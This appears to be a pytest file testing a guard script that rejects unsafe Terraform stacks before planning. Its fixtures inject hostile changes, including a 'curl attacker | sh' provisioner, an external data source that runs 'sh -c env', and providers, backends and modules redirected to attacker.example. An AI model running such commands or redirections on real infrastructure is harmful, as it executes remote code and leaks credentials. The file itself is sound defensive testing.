"""scripts/plan_guard.py: what the trusted plan job refuses before Terraform sees a stack."""

from __future__ import annotations

import copy
import json
import subprocess
import sys

import pytest

from scripts.plan_guard import expected_providers, problems_in
from tests.conftest import CONFIG, ROOT, STACK_NAMES

BUCKET = CONFIG.cluster.state.bucket


def check(name: str, document: dict) -> list[str]:
    return problems_in(name, document, bucket=BUCKET, providers=expected_providers(CONFIG))


def test_every_synthesized_stack_passes(stacks):
    for name in STACK_NAMES:
        assert check(name, stacks[name]) == [], name


def _local_exec(d):
    kind = next(iter(d["resource"]))
    first = next(iter(d["resource"][kind].values()))
    first["provisioner"] = [{"local-exec": {"command": "curl attacker | sh"}}]


def _external(d):
    d["data"]["external"] = {"x": {"program": ["sh", "-c", "env"]}}


def _unknown_provider(d):
    d["terraform"]["required_providers"]["evil"] = {"source": "evil/evil", "version": "1.0.0"}


def _other_version(d):
    d["terraform"]["required_providers"]["docker"]["version"] = "3.6.2"


def _vault_elsewhere(d):
    d["provider"]["vault"][0]["address"] = "https://attacker.example"


def _api_endpoint(d):
    d["provider"]["digitalocean"][0]["api_endpoint"] = "https://attacker.example"


def _registry_elsewhere(d):
    d["provider"]["docker"][0]["registry_auth"][0]["address"] = "attacker.example"


def _other_backend(d):
    d["terraform"]["backend"] = {"http": {"address": "https://attacker.example"}}


def _other_bucket(d):
    d["terraform"]["backend"]["s3"]["bucket"] = "attacker-bucket"


def _module(d):
    d["module"] = {"m": {"source": "git::https://attacker.example/m.git"}}


def _http_data(d):
    d["data"]["http"] = {"x": {"url": "https://attacker.example"}}


def _remote_state_elsewhere(d):
    source = next(iter(d["data"]["terraform_remote_state"].values()))
    source["config"]["bucket"] = "attacker-bucket"


def _cloud(d):
    d["terraform"]["cloud"] = {"organization": "attacker"}


@pytest.mark.parametrize(
    ("stack", "attack", "expected"),
    [
        ("layer_2", _local_exec, "has a provisioner"),
        ("layer_2", _external, "data source external is not allowed"),
        ("layer_2", _http_data, "data source http is not allowed"),
        ("layer_2", _unknown_provider, "provider evil = evil/evil 1.0.0"),
        ("layer_2", _other_version, "provider docker = kreuzwerker/docker 3.6.2"),
        ("layer_2", _vault_elsewhere, "provider vault"),
        ("layer_1", _api_endpoint, "provider digitalocean"),
        ("platform-main", _registry_elsewhere, "provider docker"),
        ("layer_1", _other_backend, "the backend must be s3"),
        ("layer_1", _other_bucket, "the backend must be s3"),
        ("layer_1", _module, "modules are not allowed"),
        ("platform-main", _remote_state_elsewhere, "must be read from"),
        ("layer_1", _cloud, "terraform.cloud is not allowed"),
    ],
)
def test_what_could_run_code_or_leak_credentials_is_refused(stacks, stack, attack, expected):
    document = copy.deepcopy(stacks[stack])
    attack(document)
    problems = check(stack, document)
    assert any(expected in p for p in problems), problems


def test_the_command_reports_every_problem_and_exits_1(stacks, tmp_path):
    paths = []
    for name, attack in (("layer_1", _module), ("layer_2", _external)):
        document = copy.deepcopy(stacks[name])
        attack(document)
        (tmp_path / name).mkdir()
        path = tmp_path / name / "cdk.tf.json"
        path.write_text(json.dumps(document))
        paths.append(str(path))
    done = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "plan_guard.py"), *paths],
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 1
    assert "layer_1: modules are not allowed" in done.stderr
    assert "layer_2: data source external is not allowed" in done.stderr
    assert "Traceback" not in done.stderr
